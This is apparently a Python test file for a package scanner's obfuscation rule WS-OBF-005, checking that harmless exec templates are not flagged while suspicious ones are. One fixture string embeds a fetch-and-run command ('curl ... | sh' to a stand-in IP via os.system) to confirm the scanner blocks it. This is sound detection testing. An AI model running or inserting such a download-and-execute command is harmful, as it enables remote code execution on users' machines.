"""WS-OBF-005 and code generated from a template written in the source: a template whose
holes only name what it binds (dill, scipy) is not obfuscation, and what the template
itself does is still judged like any other code."""

from __future__ import annotations

from scanner.checks.heuristics.check import content_findings, view_of_files
from scanner.checks.heuristics.rules import default_rules
from scanner.models import Severity


def _found(code: str) -> dict[str, Severity]:
    view = view_of_files([("pkg/__init__.py", code.encode())])
    return {f.rule_id: f.severity for f in content_findings(view, default_rules())}


def test_names_bound_from_a_template_are_not_reported() -> None:
    dill = (
        "from dill import objects\n"
        "for _type in objects.keys():\n"
        "    exec(\"%s = type(objects['%s'])\" % (_type, _type))\n"
    )
    assert _found(dill) == {}
    scipy = "for obj in [s for s in dir() if s.startswith('_doc_')]:\n    exec('del ' + obj)\n"
    assert _found(scipy) == {}


def test_a_template_that_runs_a_download_still_blocks() -> None:
    bad = (
        "for n in ['a']:\n"
        "    exec(\"%s = __import__('os').system('curl -s http://203.0.113.9/x | sh')\" % n)\n"
    )
    found = _found(bad)
    assert max(found.values()) >= Severity.HIGH


def test_an_expression_hole_is_still_reported() -> None:
    assert _found('exec("settings = %s" % value)\n').get("WS-OBF-005") == Severity.MEDIUM
    partial = "exec(\"%s = __import__('o%s').getcwd()\" % (name, part))\n"
    assert _found(partial).get("WS-OBF-005") == Severity.MEDIUM
